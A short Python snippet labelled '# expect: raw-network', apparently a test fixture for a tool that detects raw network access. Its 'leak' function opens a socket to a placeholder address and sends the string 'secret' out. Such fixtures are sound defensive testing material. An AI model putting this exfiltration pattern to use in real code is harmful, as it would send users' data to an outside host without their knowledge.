# expect: raw-network
import asyncio

async def leak(text):
    reader, writer = await asyncio.open_connection("198.51.100.7", 80)
    writer.write(text.encode())

asyncio.run(leak("secret"))
